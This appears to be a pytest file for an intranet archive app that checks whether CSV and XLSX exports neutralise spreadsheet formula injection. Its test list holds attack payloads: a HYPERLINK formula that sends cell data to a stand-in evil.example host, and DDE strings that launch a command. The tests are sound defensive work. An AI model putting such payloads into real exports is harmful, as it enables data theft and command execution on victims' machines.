"""Text that a spreadsheet would run as a formula stays text in every CSV and XLSX export:
the division report and the Daftar Arsip (one helper, ``intranet.text.spreadsheet_cell``)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from archive.models import ArchiveRecord
from intranet.clock import office_date
from intranet.extensions import db
from intranet.models import Article
from intranet.text import spreadsheet_cell
from tests.fixtures.scenarios import build_published

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_helper_keeps_other_values_as_they_are():
    assert spreadsheet_cell("Rapat pleno = tertib") == "Rapat pleno = tertib"
    assert spreadsheet_cell(" =1+1") == " =1+1"
    assert spreadsheet_cell(-1) == -1 and spreadsheet_cell(None) is None
    assert [spreadsheet_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]


def _csv_rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data, column):
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    return [(c.data_type, c.value) for c in ws[column]][1:]  # without the header


@pytest.fixture
def report_month(app, scenario):
    build_published(app, scenario["case_id"])
    with app.app_context():
        article = db.session.execute(db.select(Article)).scalar_one()
        return office_date(article.published_at).strftime("%Y-%m")


@pytest.mark.parametrize("title", FORMULAS)
def test_a_formula_title_stays_text_in_the_division_report(app, login, report_month, title):
    with app.app_context():
        article = db.session.execute(db.select(Article)).scalar_one()
        article.current.revision.title = title
        db.session.commit()
    c = login("koordinator")
    r = c.get(f"/intranet/naskah/laporan?bulan={report_month}&format=csv")
    assert r.status_code == 200
    [header, row] = _csv_rows(r.data)
    assert header[1] == "Judul" and row[1] == "'" + title
    r = c.get(f"/intranet/naskah/laporan?bulan={report_month}&format=xlsx")
    assert r.status_code == 200
    assert _xlsx_cells(r.data, "B") == [("s", "'" + title)]


def _manual_record(login, uraian):
    data = {
        "title": "Berita acara",
        "classification_id": "4",
        "uraian": uraian,
        "date_from": "2019-05-01",
        "date_to": "2019-05-03",
        "tingkat": "asli",
        "access_class": "biasa",
        "jumlah": "1 berkas",
        "hardcopy_status": "disimpan",
        "room": "Gudang",
        "cabinet": "Rak 1",
        "box": "2019-01",
        "folder": "3",
        "notes": "",
    }
    return login("arsiparis").post("/arsip/baru", data=data, content_type="multipart/form-data")


@pytest.mark.parametrize("uraian", FORMULAS)
def test_a_formula_stays_text_in_the_daftar_arsip(app, login, uraian):
    r = _manual_record(login, "Berita acara")
    assert r.status_code == 302, r.get_data(as_text=True)[-800:]
    with app.app_context():
        # the form strips a leading tab or line break; a record from an imported bag keeps it
        record = db.session.execute(db.select(ArchiveRecord)).scalar_one()
        record.uraian = stored = f"{uraian} berita acara"
        db.session.commit()
    c = login("arsiparis")
    r = c.get("/arsip/daftar.csv")
    [header, row] = _csv_rows(r.data)
    assert header[2] == "Uraian informasi" and row[2] == "'" + stored
    r = c.get("/arsip/daftar.xlsx")
    assert _xlsx_cells(r.data, "C") == [("s", "'" + stored)]
